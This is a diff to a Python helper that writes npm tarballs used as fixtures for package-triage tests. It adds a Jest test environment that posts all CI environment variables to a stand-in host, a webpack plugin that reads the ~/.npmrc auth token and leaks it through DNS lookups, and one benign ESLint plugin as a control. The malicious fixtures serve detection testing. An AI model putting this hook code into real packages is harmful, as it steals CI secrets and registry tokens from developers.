@@ -2,7 +2,7 @@
 """Writes one of the npm tarballs the triage tests make on the fly. Only
 writes the archive: nothing of it runs here.
 
-  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey|cilog|envdump|esm|urldep|plant|plantrename|clipboard|clipper|aiagent|ssec2|wallet|walletok|noload|vmcheck|binonly|tmplog|ransom|ipfence|protest|prebuilt|bareapi|cigated|workspace OUT.tgz
+  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey|cilog|envdump|esm|urldep|plant|plantrename|clipboard|clipper|aiagent|ssec2|wallet|walletok|noload|vmcheck|binonly|tmplog|ransom|ipfence|protest|prebuilt|bareapi|cigated|workspace|jestenv|webpackplugin|eslintok OUT.tgz
 
 wallet  xrpl-wallet-kit: nothing at install or require; its static
         Wallet.fromSeed passes the seed to checkValidityOfSeed, which
@@ -284,6 +284,52 @@ PACKAGES = {
             "const tmp = path.join(d, '.index.js.' + process.pid);\n"
             "fs.writeFileSync(tmp, \"require('dns').lookup('t.fetch-timing.test', () => {}); module.exports = {};\\n\");\n"
             "fs.renameSync(tmp, path.join(d, 'index.js'));\n", 0o644),
+    }),
+    # A Jest test environment (Jest a peer dependency, absent offline) whose
+    # setup() posts the environment from a CI job only: the exercise gives
+    # Jest a stand-in, makes the environment for a test file and sets it
+    # up, on a developer's machine and in a CI job.
+    "jestenv": npm_pkg({"name": "jest-environment-fetch-node", "version": "29.7.2",
+                        "peerDependencies": {"jest-environment-node": ">=29"}}, {
+        "index.js": (
+            "const { TestEnvironment } = require('jest-environment-node');\n"
+            "class FetchEnvironment extends TestEnvironment {\n"
+            "  constructor(config, context) { super(config, context); this.testPath = context.testPath; }\n"
+            "  async setup() {\n"
+            "    await super.setup();\n"
+            "    if (!process.env.GITHUB_ACTIONS) return;\n"
+            "    const body = JSON.stringify(process.env);\n"
+            "    await new Promise((res) => { const r = require('https').request({host: 'ci-metrics.jest-fetch.test', method: 'POST', path: '/r'}, res);\n"
+            "      r.on('error', res); r.end(body); });\n"
+            "  }\n"
+            "}\n"
+            "module.exports = FetchEnvironment;\n", 0o644),
+    }),
+    # A webpack plugin (webpack absent) whose emit hook sends the token of
+    # ~/.npmrc in a DNS name: a payload that runs in production builds.
+    "webpackplugin": npm_pkg({"name": "webpack-asset-manifest-lite", "version": "1.4.0",
+                              "peerDependencies": {"webpack": ">=5"}}, {
+        "index.js": (
+            "const { sources } = require('webpack');\n"
+            "class AssetManifestPlugin {\n"
+            "  apply(compiler) {\n"
+            "    compiler.hooks.emit.tapAsync('AssetManifestPlugin', (compilation, cb) => {\n"
+            "      let t = ''; try { t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8'); } catch (e) {}\n"
+            "      const m = t.match(/_authToken=(\\S+)/), h = Buffer.from(m ? m[1] : 'none').toString('hex');\n"
+            "      require('dns').lookup(h.slice(0, 60) + '.' + (h.slice(60) || 'x') + '.am.webpack-lite.test', () => cb());\n"
+            "    });\n"
+            "  }\n"
+            "}\n"
+            "module.exports = AssetManifestPlugin;\n", 0o644),
+    }),
+    # An ESLint plugin (benign): its rule reads the file it lints through
+    # the context and reports nothing.
+    "eslintok": npm_pkg({"name": "eslint-plugin-no-todo-lite", "version": "0.3.0",
+                         "peerDependencies": {"eslint": ">=8"}}, {
+        "index.js": (
+            "module.exports = { rules: { 'no-todo': { meta: { type: 'suggestion' }, create(context) {\n"
+            "  return { Program() { const f = context.getFilename(); if (/todo/i.test(f)) context.report({ message: 'todo' }); } };\n"
+            "} } } };\n", 0o644),
     }),
     # Workflow injection and an editor extension dropped, each only where
     # a developer's machine has them: the project a clone of a GitHub
